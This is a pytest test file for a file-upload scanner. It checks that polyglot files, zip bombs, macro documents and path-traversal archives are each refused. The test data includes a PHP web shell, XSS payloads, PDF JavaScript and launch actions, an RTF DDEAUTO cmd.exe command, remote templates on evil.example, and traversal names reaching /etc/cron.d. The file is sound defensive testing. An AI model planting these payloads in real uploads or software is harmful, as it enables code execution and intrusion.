"""Files made to harm: two things at once, bombs, scripts, programs inside; each refused with its own reason."""

from __future__ import annotations

import io
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from intake.uploads import FileFormat, Sniffed, UploadRefusal
from intake.uploads.looking import look_into
from tests.unit.handing_in import (
    HONEST,
    compound,
    doc,
    docx,
    docx_parts,
    object_stream,
    odf,
    pages,
    pdf,
    picture,
    png_chunk,
    png_claiming,
    record,
    relations,
    rtf,
    stream,
    with_segment,
    xls,
    xlsx,
    zipped,
)

ALL = frozenset(FileFormat)
MIB = 1024 * 1024
MIXED, BROKEN, ACTIVE = UploadRefusal.MIXED, UploadRefusal.BROKEN, UploadRefusal.ACTIVE
UNPACKS, EMBEDDED, MACROS = UploadRefusal.UNPACKS, UploadRefusal.EMBEDDED, UploadRefusal.MACROS
ENCRYPTED, UNSAFE = UploadRefusal.ENCRYPTED, UploadRefusal.UNSAFE_PATHS
PIXELS = UploadRefusal.TOO_MANY_PIXELS

ARCHIVE = zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe" + bytes(60)})
PAGE = b"<html><body onload=alert(1)></body></html>"
PHP = b"<?php system($_GET['c']); ?>"
COMMENT_AS_LENGTH = b"\xff\xd8\xff\xe0/*JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"


@pytest.fixture
def place(tmp_path: Path) -> Path:
    return tmp_path / "file"


def looked(place: Path, data: bytes) -> Sniffed | UploadRefusal:
    place.write_bytes(data)
    found = look_into(place, "", ALL)
    assert [path.name for path in place.parent.iterdir()] == [place.name]  # looking leaves nothing behind
    return found


Made = tuple[Callable[[], bytes], UploadRefusal]


def exif_with(text: bytes) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = text.decode("latin-1")
    return picture("JPEG", exif=exif)


def docx_behind(data: bytes) -> bytes:
    """The places in the directory are moved, as a self-extracting archive has them."""
    made = io.BytesIO(data)
    made.seek(0, io.SEEK_END)
    with zipfile.ZipFile(made, "a") as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
    return made.getvalue()


TWO_AT_ONCE: dict[str, Made] = {
    "a PDF that is a JAR": (lambda: pdf() + ARCHIVE, MIXED),
    "a PDF with a ZIP within": (lambda: pdf(b"<< /Length 9 >>\nstream\n" + ARCHIVE + b"\nendstream"), MIXED),
    "a PDF that is a page": (lambda: pdf(b"<< /Length 9 >>\nstream\n" + PAGE + b"\nendstream"), MIXED),
    "a page that is a PDF": (lambda: b"<!-- " + pdf() + b"-->", MIXED),
    "a program that is a PDF": (lambda: b"MZ" + bytes(62) + pdf(), MIXED),
    "a PDF with a program behind": (lambda: pdf() + b"MZ\x90This program cannot be run in DOS mode.", MIXED),
    "a PDF that is a script of a shell": (lambda: pdf(end=b"\n#!/bin/sh\nid\n"), MIXED),
    "a PDF with PHP behind": (lambda: pdf(end=PHP), MIXED),
    "a PDF that is an image of a disc": (lambda: pdf(b"(%b)" % bytes(40_000))[:32_769] + b"CD001" + pdf(), MIXED),
    "a PDF behind a PDF with a gap": (lambda: pdf() + bytes(2_000), MIXED),
    "a JPEG that is a JAR": (lambda: picture("JPEG") + ARCHIVE, MIXED),
    "a JPEG with a ZIP in a note": (lambda: with_segment(picture("JPEG"), 0xFE, ARCHIVE), MIXED),
    "a JPEG with PHP behind": (lambda: picture("JPEG") + PHP, MIXED),
    "a JPEG with a page behind": (lambda: picture("JPEG") + PAGE, MIXED),
    "a JPEG with script behind": (lambda: picture("JPEG") + b"*/=1;alert(document.domain)//", MIXED),
    "a JPEG with PHP in its EXIF": (lambda: exif_with(PHP), MIXED),
    "a JPEG with short PHP in its EXIF": (lambda: exif_with(b"<?= shell_exec($_GET[0]) ?>"), MIXED),
    "a JPEG with script in its EXIF": (lambda: exif_with(b"<script>alert(1)</script>"), MIXED),
    "a JPEG with script in its note": (lambda: picture("JPEG", comment=b"*/=alert(1);/*"), MIXED),
    "a JPEG whose length is a comment": (lambda: COMMENT_AS_LENGTH + bytes(12_056) + picture("JPEG")[2:], MIXED),
    "a JPEG that is a PDF": (lambda: with_segment(picture("JPEG"), 0xFE, pdf()), MIXED),
    "a JPEG with a RAR behind": (lambda: picture("JPEG") + b"Rar!\x1a\x07\x01\x00" + bytes(90), MIXED),
    "a PNG that is a JAR": (lambda: picture("PNG") + ARCHIVE, MIXED),
    "a PNG with a 7z behind": (lambda: picture("PNG") + b"7z\xbc\xaf\x27\x1c" + bytes(90), MIXED),
    "a PNG with PHP in a note": (
        lambda: picture("PNG")[:33] + png_chunk(b"tEXt", b"c\x00" + PHP) + picture("PNG")[33:],
        MIXED,
    ),
    "a TIFF that is a ZIP": (lambda: pages(1) + ARCHIVE, MIXED),
    "a TIFF that is a page": (lambda: pages(1) + PAGE, MIXED),
    "a TIFF that is a PDF": (lambda: pages(1) + pdf(), MIXED),
    "an RTF that is a ZIP": (lambda: rtf() + ARCHIVE, MIXED),
    "an RTF with PHP within": (lambda: rtf(PHP.decode().replace("$", "")), MIXED),
    "a document with a PDF in front": (lambda: docx_behind(pdf()), MIXED),
    "a document with a program behind": (lambda: docx() + b"MZ\x90", MIXED),
    "a document behind a document": (lambda: docx() + docx(), MIXED),
    "a document with a PDF at its head": (
        lambda: zipped({"docProps/a.xml": pdf()} | docx_parts(), stored=["docProps/a.xml"]),
        MIXED,
    ),
    "an old document with a ZIP behind": (lambda: doc() + bytes(9 * 512 * 20) + ARCHIVE, MIXED),
    "an old document with a ZIP within": (lambda: doc(more={"Data": ARCHIVE}), EMBEDDED),
}


@pytest.mark.parametrize("what", TWO_AT_ONCE)
def test_what_is_two_things_at_once_is_refused(place: Path, what: str) -> None:
    made, why = TWO_AT_ONCE[what]
    assert looked(place, made()) is why


ESCAPED = b"/J#61va#53cript"
IN_THE_PDF: dict[str, Made] = {
    "script": (lambda: pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), ACTIVE),
    "script, the name hidden": (lambda: pdf(b"<< /S " + ESCAPED + b" /JS (a) >>"), ACTIVE),
    "script, packed": (lambda: pdf(object_stream(b"<< /S /JavaScript /JS (a) >>")), ACTIVE),
    "script, packed and hidden": (lambda: pdf(object_stream(b"<< /S " + ESCAPED + b" /JS (a) >>")), ACTIVE),
    "script in a stream that does not say it holds objects": (
        lambda: pdf(stream(b"7 0 << /S /JavaScript /JS (a) >>")),
        ACTIVE,
    ),
    "script, packed twice": (
        lambda: pdf(b"<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n00\nendstream"),
        ACTIVE,
    ),
    "a program to start": (lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTIVE),
    "a form with a program of its own": (lambda: pdf(b"<< /XFA 5 0 R >>"), ACTIVE),
    "a film": (lambda: pdf(b"<< /Subtype /RichMedia >>"), ACTIVE),
    "a file": (lambda: pdf(b"<< /Type /EmbeddedFile >>\nstream\nx\nendstream"), EMBEDDED),
    "a list of files": (lambda: pdf(b"<< /Names << /EmbeddedFiles 5 0 R >> >>"), EMBEDDED),
    "a list of files, packed": (lambda: pdf(object_stream(b"<< /EmbeddedFiles 5 0 R >>")), EMBEDDED),
    "a way to another file": (lambda: pdf(b"<< /S /GoToE >>"), EMBEDDED),
    "a password": (lambda: pdf(trailer=b"/Encrypt 9 0 R"), ENCRYPTED),
    "a password, the name hidden": (lambda: pdf(trailer=b"/#45ncrypt 9 0 R"), ENCRYPTED),
    "a password in the open": (lambda: pdf(trailer=b"/Encrypt<</Filter/Standard>>"), ENCRYPTED),
    "a bomb": (lambda: pdf(object_stream(b" " * (80 * MIB))), UNPACKS),
    "no end": (lambda: pdf()[:-7], BROKEN),
    "half of it": (lambda: pdf()[:150], BROKEN),
    "nothing but its beginning": (lambda: b"%PDF-1.7\n", BROKEN),
    "a place behind its end": (lambda: pdf().replace(b"startxref\n", b"startxref\n99999"), BROKEN),
    "a version nobody wrote": (lambda: pdf().replace(b"%PDF-1.7", b"%PDF-9.9"), BROKEN),
}


@pytest.mark.parametrize("what", IN_THE_PDF)
def test_a_pdf_that_would_do_something_or_hides_something_is_refused(place: Path, what: str) -> None:
    made, why = IN_THE_PDF[what]
    assert looked(place, made()) is why


PICTURES: dict[str, Made] = {
    "a JPEG cut off": (lambda: picture("JPEG", (640, 480))[:4_000], BROKEN),
    "a JPEG of nothing": (lambda: b"\xff\xd8\xff\xd9", BROKEN),
    "a JPEG of its beginning": (lambda: b"\xff\xd8\xff", BROKEN),
    "a PNG cut off": (lambda: picture("PNG")[:-20], BROKEN),
    "a PNG with a wrong sum": (lambda: picture("PNG").replace(b"IDAT", b"IDAt"), BROKEN),
    "a PNG of a billion dots": (lambda: png_claiming(32_000, 32_000, zlib.compress(bytes(1000))), PIXELS),
    "a PNG of more dots than a number holds": (lambda: png_claiming(2**31 - 1, 2**31 - 1, b""), PIXELS),
    "a PNG of one dot with a gigabyte": (lambda: png_claiming(1, 1, zlib.compress(bytes(64 * MIB))), UNPACKS),
    "a PNG of one dot with hidden data": (
        lambda: picture("PNG")[:33] + png_chunk(b"prVt", bytes(3 * MIB)) + picture("PNG")[33:],
        MIXED,
    ),
    "a JPEG of one dot with hidden data": (
        lambda: with_notes(picture("JPEG", (1, 1)), 40),
        MIXED,
    ),
    "a TIFF cut off": (lambda: pages(1, (2_000, 2_000))[:60], BROKEN),
    "a TIFF with more sheets than anybody hands in": (lambda: pages(320, (8, 8)), PIXELS),
    "a TIFF of its beginning": (lambda: b"II*\x00", BROKEN),
}


def with_notes(jpeg: bytes, count: int) -> bytes:
    for _ in range(count):
        jpeg = with_segment(jpeg, 0xEB, bytes(65_000))
    return jpeg


@pytest.mark.parametrize("what", PICTURES)
def test_a_picture_that_is_not_whole_or_lies_is_refused(place: Path, what: str) -> None:
    made, why = PICTURES[what]
    assert looked(place, made()) is why


# ---- archives


def patched(data: bytes, sign: bytes, at: int, form: str, value: int) -> bytes:
    """A number behind every `sign`, changed."""
    made = bytearray(data)
    place = made.find(sign)
    while place >= 0:
        struct.pack_into(form, made, place + at, value)
        place = made.find(sign, place + 4)
    return bytes(made)


CENTRAL, LOCAL = b"PK\x01\x02", b"PK\x03\x04"


def flat_bomb() -> bytes:
    return zipped(docx_parts() | {f"word/media/{number}.xml": bytes(20 * MIB) for number in range(16)})


def one_over_another() -> bytes:
    """Many names for the same octets, in the manner of the quoted bombs: only the directory grows."""
    kernel = zipped({"word/00": bytes(8 * MIB)})
    end = kernel.rfind(b"PK\x05\x06")
    at = kernel.find(CENTRAL)
    row, count = kernel[at:end], 40
    rows = b"".join(row.replace(b"word/00", b"word/%02d" % number) for number in range(count))
    last = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(rows), at, 0)
    return kernel[:at] + rows + last


def lying(size: int) -> bytes:
    """Every size in the directory and before the data is `size`."""
    made = patched(docx(), CENTRAL, 24, "<L", size)
    return patched(made, LOCAL, 22, "<L", size)


def renamed(name: str) -> bytes:
    """A document with a part of that name, as the raw octets of both tables say."""
    raw = name.encode("utf-8")
    stand_in = "x" * len(raw)
    return zipped(docx_parts() | {stand_in: b"evil"}).replace(stand_in.encode(), raw)


def linked() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return made.getvalue()


def nested(depth: int) -> bytes:
    inner = bytes(1 * MIB)
    for level in range(depth):
        inner = zipped({f"{level}.zip": inner})
    return inner


def with_a_gap() -> bytes:
    """Something between the last part and the directory; the directory's place is told rightly."""
    made = docx()
    at = made.find(CENTRAL)
    hidden = b"hidden " * 20
    end = bytearray(made[at:])
    struct.pack_into("<L", end, len(end) - 22 + 16, at + len(hidden))
    return made[:at] + hidden + bytes(end)


def twice() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
        archive.writestr("word/Document.xml", b"another")
    return made.getvalue()


ARCHIVES: dict[str, Made] = {
    "a flat bomb": (flat_bomb, UNPACKS),
    "a bomb of parts over one another": (one_over_another, UNPACKS),
    "a bomb in a bomb": (lambda: docx(word__media__a_dot_bin=nested(5)), EMBEDDED),
    "ten gigabytes by its word": (lambda: lying(0xFFFFFFF0), UNPACKS),
    "a part that is more than it says": (lambda: lying(3), UNPACKS),
    "a part that is less than it says": (lambda: lying(5_000), BROKEN),
    "a wrong sum": (lambda: patched(docx(), CENTRAL, 16, "<L", 1), BROKEN),
    "more parts than any document": (lambda: zipped({f"a{number}": b"" for number in range(5_000)}), UNPACKS),
    "a part with a password": (lambda: patched(docx(), CENTRAL, 8, "<H", 1), ENCRYPTED),
    "a part packed in another way": (lambda: patched(docx(), CENTRAL, 10, "<H", 12), BROKEN),
    "two names for a part": (lambda: docx().replace(b"word/document.xml", b"word/dokument.xml", 1), BROKEN),
    "the same name twice": (twice, BROKEN),
    "something hidden in it": (with_a_gap, MIXED),
    "a link": (linked, UNSAFE),
    "nothing in it": (lambda: b"PK\x03\x04" + bytes(40), BROKEN),
    "cut off": (lambda: docx()[:-30], BROKEN),
    "a comment behind": (lambda: docx()[:-2] + b"\x05\x00Hello", MIXED),
}


@pytest.mark.parametrize("what", ARCHIVES)
def test_a_package_that_lies_or_grows_is_refused(place: Path, what: str) -> None:
    made, why = ARCHIVES[what]
    assert looked(place, made()) is why


PATHS = [
    "../evil",
    "../../../../etc/cron.d/evil",
    "word/../../evil",
    "word/..",
    "/etc/passwd",
    "//server/evil",
    "..\\..\\evil.dll",
    "word\\..\\evil",
    "C:\\Windows\\evil",
    "C:evil",
    "C:/evil",
    "\\\\server\\share\\evil",
    "./evil",
    "word/./evil",
    "word//evil",
    "evil\x00.xml",
    "evil\r\n.xml",
    "\x7fevil",
    "evil.xml.",
    "evil.xml ",
    "word /evil",
    "word./evil",
    "...../../evil",
    ".. /evil",
    "evil:stream",
    "file:///etc/passwd",
    "a" * 300,
    "..",
    ".",
    "/",
    "\\",
]


@pytest.mark.parametrize("name", PATHS)
def test_a_package_whose_names_lead_out_of_it_is_refused(place: Path, name: str) -> None:
    assert looked(place, renamed(name)) is UNSAFE


def types(more: str) -> bytes:
    return docx_parts()["[Content_Types].xml"].replace(b"</Types>", more.encode() + b"</Types>")


MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
FAR = "https://evil.example/a.dotm"
OLE = compound({"\x01Ole10Native": b"evil.exe"})
IN_THE_DOCUMENT: dict[str, Made] = {
    "macros, by its type": (lambda: zipped(docx_parts(MACRO_MAIN)), MACROS),
    "macros": (lambda: docx(word__vbaProject_dot_bin=b"x"), MACROS),
    "macros, in capitals": (lambda: docx(word__VBAPROJECT_dot_BIN=b"x"), MACROS),
    "macros under another name": (
        lambda: zipped(
            docx_parts()
            | {
                "[Content_Types].xml": types(
                    '<Override PartName="/a" ContentType="application/vnd.ms-office.vbaProject"/>'
                )
            }
        ),
        MACROS,
    ),
    "a sheet of macros": (lambda: zipped(unzipped(xlsx()) | {"xl/macrosheets/sheet1.xml": b"<a/>"}), MACROS),
    "a control": (lambda: docx(word__activeX__activeX1_dot_bin=b"x"), ACTIVE),
    "a template from the web": (
        lambda: docx(word___rels__settings_dot_xml_dot_rels=relations(("attachedTemplate", FAR, True))),
        ACTIVE,
    ),
    "a template from a share": (
        lambda: docx(word___rels__a_dot_rels=relations(("attachedTemplate", "file://server/a.dotm", True))),
        ACTIVE,
    ),
    "an object from the web": (lambda: docx(word___rels__a_dot_rels=relations(("oleObject", FAR, True))), ACTIVE),
    "a picture from a share": (
        lambda: docx(word___rels__a_dot_rels=relations(("image", "\\\\server\\a.png", True))),
        ACTIVE,
    ),
    "entities": (lambda: docx(word__a_dot_xml=b'<!DOCTYPE a [<!ENTITY b "cccc">]><a>&b;</a>'), ACTIVE),
    "entities in wide letters": (
        lambda: docx(word__a_dot_xml='<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16-le")),
        ACTIVE,
    ),
    "a type of its own": (
        lambda: zipped(docx_parts() | {"[Content_Types].xml": b"<!DOCTYPE a>" + docx_parts()["[Content_Types].xml"]}),
        ACTIVE,
    ),
    "a program": (lambda: docx(word__media__image1_dot_png=b"MZ" + bytes(100)), EMBEDDED),
    "a program as an object": (lambda: docx(word__embeddings__oleObject1_dot_bin=OLE), EMBEDDED),
    "a script": (lambda: docx(word__evil_dot_js=b"alert(1)"), EMBEDDED),
    "a page": (lambda: docx(word__afchunk_dot_mht=b"x"), EMBEDDED),
    "an archive": (lambda: docx(word__media__image1_dot_png=ARCHIVE), EMBEDDED),
    "an archive in embeddings": (lambda: docx(word__embeddings__a_dot_bin=ARCHIVE), EMBEDDED),
    "a broken list of types": (lambda: zipped(docx_parts() | {"[Content_Types].xml": b"<Types"}), BROKEN),
    "Basic in ODF": (lambda: odf("text", Basic__Standard__Module1_dot_xml=b"<a/>"), MACROS),
    "Python in ODF": (lambda: odf("spreadsheet", Scripts__python__a_dot_py=b"x"), MACROS),
    "a password in ODF": (
        lambda: odf("text", **{"META-INF__manifest_dot_xml": b"<m><manifest:encryption-data/></m>"}),
        ENCRYPTED,
    ),
}


def unzipped(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.parametrize("what", IN_THE_DOCUMENT)
def test_a_document_that_would_do_something_is_refused(place: Path, what: str) -> None:
    made, why = IN_THE_DOCUMENT[what]
    assert looked(place, made()) is why


def test_links_to_click_and_templates_of_its_author_are_let_be(place: Path) -> None:
    rows = relations(
        ("hyperlink", "https://soctrang.gov.vn", True),
        ("attachedTemplate", "file:///C:\\Users\\Lan\\Normal.dotm", True),
        ("image", "https://soctrang.gov.vn/logo.png", True),
    )
    found = looked(place, docx(word___rels__document_dot_xml_dot_rels=rows))
    assert isinstance(found, Sniffed)


THEME = zipped({"[Content_Types].xml": b"<a/>", "_rels/.rels": b"<a/>", "theme/theme/theme1.xml": b"<a/>"})
OLD: dict[str, Made] = {
    "macros": (lambda: doc(storages=["Macros"]), MACROS),
    "macros in a workbook": (lambda: compound({"Workbook": b""}, ["_VBA_PROJECT_CUR"]), MACROS),
    "a project of macros": (lambda: xls(record(0x00D3)), MACROS),
    "a sheet of macros": (lambda: xls(record(0x0085, bytes(4) + b"\x00\x01\x01\x00a")), MACROS),
    "a hidden sheet of macros": (lambda: xls(record(0x0085, bytes(4) + b"\x02\x01\x01\x00a")), MACROS),
    "a program as an object": (lambda: doc(more={"\x01Ole10Native": b"evil.exe"}), EMBEDDED),
    "a password": (lambda: doc(flags=0x0100), ENCRYPTED),
    "a password of a workbook": (lambda: xls(record(0x002F, bytes(6))), ENCRYPTED),
    "a newer document with a password": (lambda: compound({"EncryptedPackage": b"", "EncryptionInfo": b""}), ENCRYPTED),
    "a presentation": (lambda: compound({"PowerPoint Document": b""}), UploadRefusal.NOT_ALLOWED),
    "a message": (lambda: compound({"__properties_version1.0": b""}), UploadRefusal.NOT_ALLOWED),
    "an empty one": (lambda: compound({}), UploadRefusal.NOT_ALLOWED),
    "no document in it": (lambda: compound({"WordDocument": b"x" * 40, "1Table": b""}), BROKEN),
    "no table beside it": (lambda: compound({"WordDocument": b"\xec\xa5" + bytes(40)}), BROKEN),
    "no book in it": (lambda: compound({"Workbook": b"x" * 40}), BROKEN),
    "its beginning": (lambda: doc()[:8], BROKEN),
    "its head": (lambda: doc()[:512], BROKEN),
    "cut off": (lambda: doc()[:-700], BROKEN),
    "a ring": (lambda: ring(doc()), BROKEN),
}


def ring(data: bytes) -> bytes:
    """Every sector is followed by itself."""
    made = bytearray(data)
    for number in range(128):
        struct.pack_into("<L", made, 512 + 4 * number, number)
    return bytes(made)


@pytest.mark.parametrize("what", OLD)
def test_an_old_document_that_would_do_something_is_refused(place: Path, what: str) -> None:
    made, why = OLD[what]
    assert looked(place, made()) is why


def test_the_colours_that_word_keeps_as_an_archive_are_let_be(place: Path) -> None:
    assert isinstance(looked(place, doc(more={"Theme": THEME})), Sniffed)


IN_THE_RTF: dict[str, Made] = {
    "an object": (lambda: rtf(r"{\object\objemb{\*\objdata 0105}}"), EMBEDDED),
    "an object, by its data alone": (lambda: rtf(r"{\*\objdata 0105}"), EMBEDDED),
    "an object that renews itself": (lambda: rtf(r"{\object\objautlink\objupdate}"), EMBEDDED),
    "a command": (lambda: rtf(r'{\field{\*\fldinst DDEAUTO c:\\windows\\cmd.exe "/k"}}'), ACTIVE),
    "a command with formatting": (lambda: rtf(r"{\field{\*\fldinst {\b DDE}{\i AUTO} c:\\cmd.exe}}"), ACTIVE),
    "a picture of the web": (lambda: rtf(r'{\field{\*\fldinst INCLUDEPICTURE "http://evil.example/a"}}'), ACTIVE),
    "a template of the web": (lambda: rtf(r"{\*\template http://evil.example/a.dotm}"), ACTIVE),
    "a brace too many": (lambda: rtf() + b"}", MIXED),
    "a brace too few": (lambda: rtf()[:-1], BROKEN),
    "more braces than anybody writes": (lambda: rtf("{" * 5_000 + "}" * 5_000), BROKEN),
    "its beginning": (lambda: b"{\\rtf", BROKEN),
    "raw data over its end": (lambda: rtf(r"\bin999999 x"), BROKEN),
}


@pytest.mark.parametrize("what", IN_THE_RTF)
def test_an_rtf_that_is_more_than_a_text_is_refused(place: Path, what: str) -> None:
    made, why = IN_THE_RTF[what]
    assert looked(place, made()) is why


def test_a_field_and_a_picture_of_its_own_are_let_be(place: Path) -> None:
    inside = (
        r"{\field{\*\fldinst HYPERLINK \"https://soctrang.gov.vn\"}}{\pict\pngblip 89504e47}{\*\template C:\\a.dot}"
    )
    assert isinstance(looked(place, rtf(inside)), Sniffed)


# ---- whatever else


SIGNS = [
    b"%PDF-1.7\n",
    b"\xff\xd8\xff\xe0",
    b"\x89PNG\r\n\x1a\n",
    b"II*\x00",
    b"MM\x00*",
    LOCAL,
    OLE[:512],
    b"{\\rtf1 ",
]


@given(begin=st.sampled_from([b"", *SIGNS]), rest=st.binary(max_size=2_000))
def test_no_octets_whatever_are_too_much(tmp_path_factory: pytest.TempPathFactory, begin: bytes, rest: bytes) -> None:
    place = tmp_path_factory.getbasetemp() / "any"
    place.write_bytes(begin + rest)
    assert isinstance(look_into(place, "", ALL), Sniffed | UploadRefusal)


@cache
def honest(kind: FileFormat) -> bytes:
    """The same every time: a picture is noise."""
    return HONEST[kind]()


@given(kind=st.sampled_from(FileFormat), data=st.data())
def test_a_damaged_file_is_told_from_a_whole_one_or_still_is_one(
    tmp_path_factory: pytest.TempPathFactory, kind: FileFormat, data: st.DataObject
) -> None:
    place = tmp_path_factory.getbasetemp() / "damaged"
    made = bytearray(honest(kind))
    for _ in range(data.draw(st.integers(1, 8))):
        made[data.draw(st.integers(0, len(made) - 1))] = data.draw(st.integers(0, 255))
    place.write_bytes(made[: data.draw(st.integers(1, len(made)))])
    assert isinstance(look_into(place, "", ALL), Sniffed | UploadRefusal)


@pytest.mark.parametrize("make", [flat_bomb, one_over_another, IN_THE_PDF["a bomb"][0]])
def test_a_bomb_costs_no_more_memory_than_it_may(place: Path, make: Callable[[], bytes]) -> None:
    place.write_bytes(make())
    tracemalloc.start()
    try:
        assert look_into(place, "", ALL) is UNPACKS
        assert tracemalloc.get_traced_memory()[1] < 160 * MIB
    finally:
        tracemalloc.stop()
